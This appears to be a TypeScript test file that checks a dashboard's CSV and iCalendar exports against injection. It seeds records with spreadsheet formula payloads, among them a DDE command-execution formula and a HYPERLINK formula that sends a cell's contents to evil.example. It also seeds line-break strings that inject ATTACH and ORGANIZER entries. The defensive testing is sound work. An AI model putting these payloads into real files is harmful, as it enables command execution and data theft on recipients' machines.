import { parse } from 'csv-parse/sync'
import ICAL from 'ical.js'
import { beforeAll, expect } from 'vitest'
import { appointments } from '../../lib/dashboard/schema/appointments.ts'
import { calls } from '../../lib/dashboard/schema/calls.ts'
import { leads } from '../../lib/dashboard/schema/leads.ts'
import { within } from '../e2e/account/rows.ts'
import { check } from '../support/check.ts'
import { adminOf } from './support/member.ts'

/* Attack: callers and customers put text into files that the company opens in spreadsheets and calendars. */

const ORGANIZATION = 'org_exports'

/** Cell values that a spreadsheet would evaluate or fetch, or that end a cell or a line. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '"=1+1',
  '",=1+1,"',
  'x\n=1+1',
  'x"\r\n"=1+1',
  ';=1+1',
]

const PHONES = ['+442079460958', '+12125550142']

const START = new Date(Date.now() + 24 * 3_600_000)

let ask: Awaited<ReturnType<typeof adminOf>>

beforeAll(async () => {
  ask = await adminOf(ORGANIZATION)
  const own = { organizationId: ORGANIZATION }
  await within(own, async ({ db }) => {
    await db.delete(leads)
    await db.delete(calls)
    await db.delete(appointments)
    await db.insert(calls).values(
      FORMULAS.map((text, index) => ({
        ...own,
        startedAt: START,
        outcome: 'message' as const,
        callerName: text,
        callerPhone: PHONES[index % PHONES.length],
        callerWords: text,
        summary: text,
        rule: text,
      })),
    )
    await db.insert(appointments).values(
      INJECTED.map((text) => ({
        ...own,
        startsAt: START,
        endsAt: new Date(START.getTime() + 2 * 3_600_000),
        customer: text,
        job: text,
        address: text,
        technician: text,
      })),
    )
  })
})

const isFormula = (cell: string): boolean => /^[=+\-@\t\r\n＝＋－＠]/.test(cell)

async function rowsOf(path: string): Promise<string[][]> {
  const response = await ask(path)
  expect(response.status).toBe(200)
  return parse(await response.text(), { bom: true })
}

check(
  {
    what: 'Exports: leads and calls as CSV',
    tried: `${FORMULAS.length} formulas and quotes in every text, read by a parser`,
    expected: 'starts no cell with a formula, loses none, and keeps phone numbers intact',
  },
  async () => {
    for (const text of FORMULAS) {
      const lead = { name: text, problem: text, address: text, system: text, safety: text, phone: PHONES[0] }
      const response = await ask('/api/dashboard/leads', { method: 'POST', body: JSON.stringify(lead) })
      expect(response.status).toBe(201)
    }
    const first = await rowsOf('/api/dashboard/leads/export')
    const rows = [...first, ...(await rowsOf('/api/dashboard/calls/export'))]
    const cells = rows.flat()
    expect(cells.filter(isFormula)).toEqual([])
    const texts = new Set(cells.map((cell) => cell.replace(/^'/, '')))
    expect(FORMULAS.map((text) => text.trim()).filter((text) => !texts.has(text))).toEqual([])
    expect(cells).toEqual(expect.arrayContaining(['011 44 20 7946 0958', '(212) 555-0142']))
    return `${rows.length} rows, ${cells.length} cells, no formula`
  },
)

/** Texts that would end a line or a component in an iCalendar file. */
const INJECTED = [
  'x\r\nX-EVIL:1',
  'x\nATTACH:https://evil.example/',
  'x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:DISPLAY',
  'x\rORGANIZER:mailto:evil@evil.example',
  'x\u0085X-EVIL:1',
  'x\u2028X-EVIL:1',
  'x;X-EVIL=1:y',
  'x\\nX-EVIL:1',
  'x\\',
  `${'x'.repeat(62)}\r\n X-EVIL:1`,
]

const OWN =
  'created description dtend dtstamp dtstart last-modified location sequence status summary transp uid url'.split(' ')

check(
  {
    what: 'Exports: calendar feed',
    tried: `${INJECTED.length} line breaks in the feed name and in every text of a visit, read by a parser`,
    expected: 'contains one event per visit and no injected property or component',
  },
  async () => {
    const problems: string[] = []
    for (const name of INJECTED) {
      const made = await ask('/api/dashboard/feeds', { method: 'POST', body: JSON.stringify({ name }) })
      expect(made.status).toBe(201)
      const { address, feed } = (await made.json()) as { address: string; feed: { id: string } }
      const text = await (await fetch(address)).text()
      await ask(`/api/dashboard/feeds/${feed.id}`, { method: 'DELETE' })
      try {
        const calendar = new ICAL.Component(ICAL.parse(text) as unknown[])
        const events = calendar.getAllSubcomponents()
        if (events.length !== INJECTED.length) problems.push(`${events.length} entries`)
        const names = new Set(events.flatMap((event) => event.getAllProperties().map((property) => property.name)))
        problems.push(...[...names].filter((each) => !OWN.includes(each)))
        problems.push(...events.flatMap((event) => event.getAllSubcomponents().map((inner) => inner.name)))
        problems.push(
          ...calendar
            .getAllProperties()
            .map((property) => property.name)
            .filter((each) => /evil|attach|organizer/.test(each)),
        )
      } catch (error) {
        problems.push(error instanceof Error ? error.message : 'unreadable')
      }
    }
    expect([...new Set(problems)]).toEqual([])
    return `${INJECTED.length} entries, ${OWN.length} properties`
  },
)
